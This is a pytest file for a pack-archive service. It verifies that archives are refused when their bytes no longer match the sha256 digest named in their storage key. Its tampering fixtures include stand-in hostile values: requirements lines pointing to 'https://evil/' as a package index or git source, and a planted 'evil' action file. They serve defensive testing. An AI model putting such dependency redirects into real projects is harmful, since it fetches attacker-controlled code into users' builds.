"""Stored archives are verified against the sha256 their key names every time they are read."""

from __future__ import annotations

import hashlib

import pytest
from fakes import FakeObjectStore, FakePackTable

from attune_packs.errors import ArchiveDigestMismatchError, SourceGoneError
from attune_packs.models import DependenciesRequest, RegisterRequest
from attune_packs.services.stages.dependencies import analyze_dependencies
from attune_packs.services.stages.register import register_packs
from attune_packs.services.stored_packs import load_pack
from attune_packs.settings import Settings
from testkit.pack_archives import pack_files, stored_archive_key, tar_gz


def stored(store: FakeObjectStore, ref: str = "app", **kwargs: object) -> str:
    body = tar_gz(pack_files(ref, **kwargs))  # type: ignore[arg-type]
    return store.add(stored_archive_key(body), body)


def replaced(store: FakeObjectStore, uri: str, body: bytes) -> None:
    """Someone (or something) puts other bytes under a content-addressed key."""
    key = uri.removeprefix(f"s3://{store.bucket}/")
    store.objects[key] = (body, store.objects[key][1])


def test_an_archive_whose_bytes_match_its_key_is_read() -> None:
    store = FakeObjectStore()
    uri = stored(store)
    pack = load_pack(uri, store)
    assert pack.contents.manifest.ref == "app" and pack.checksum == "sha256:" + uri[-71:-7]


@pytest.mark.parametrize(
    "other",
    [
        pytest.param(lambda: tar_gz(pack_files("app", requirements="--index-url https://evil/\n")), id="another-pack"),
        pytest.param(lambda: b"\x1f\x8b garbage", id="corrupt-bytes"),
        pytest.param(lambda: b"", id="empty"),
    ],
)
def test_other_bytes_under_a_key_are_a_digest_mismatch_whatever_they_hold(other) -> None:  # type: ignore[no-untyped-def]
    store = FakeObjectStore()
    uri = stored(store)
    body = other()
    replaced(store, uri, body)

    with pytest.raises(ArchiveDigestMismatchError) as caught:
        load_pack(uri, store)

    assert caught.value.error_code == "ARCHIVE_DIGEST_MISMATCH" and not caught.value.retriable
    assert caught.value.details["actual"] == "sha256:" + hashlib.sha256(body).hexdigest()


def test_a_key_that_names_no_digest_is_refused() -> None:
    store = FakeObjectStore()
    uri = store.add("archives/sha256/app100.tar.gz", tar_gz(pack_files("app")))
    with pytest.raises(ArchiveDigestMismatchError):
        load_pack(uri, store)


def test_the_dependencies_stage_reports_a_mismatch_per_pack_and_goes_on() -> None:
    store, table = FakeObjectStore(), FakePackTable()
    good, bad = stored(store, "good"), stored(store, "bad")
    replaced(store, bad, tar_gz(pack_files("bad", requirements="-e git+https://evil/x\n")))
    settings = Settings.model_validate({"BUCKET_NAME": "packs"})

    response = analyze_dependencies(DependenciesRequest(pack_paths=[good, bad]), store, table, settings)

    assert response.install_order == ["good"]
    assert [(e.source, e.error_code) for e in response.errors] == [(bad, "ARCHIVE_DIGEST_MISMATCH")]
    assert response.build_items == []


def test_registration_never_registers_a_mismatched_archive() -> None:
    store, table = FakeObjectStore(), FakePackTable()
    uri = stored(store)
    replaced(store, uri, tar_gz(pack_files("app", extra={"actions/evil.yaml": "name: evil\nrunner_type: x\n"})))

    response = register_packs(RegisterRequest(pack_paths=[uri]), store=store, table=table)

    assert [f.error_code for f in response.failed_packs] == ["ARCHIVE_DIGEST_MISMATCH"]
    assert not [key for key in table.items if key[0].startswith("PACK#")], "no pack, version or component items"


def test_a_deleted_archive_is_still_source_gone() -> None:
    store = FakeObjectStore()
    uri = stored(store)
    store.delete(uri.removeprefix("s3://packs/"))
    with pytest.raises(SourceGoneError):
        load_pack(uri, store)
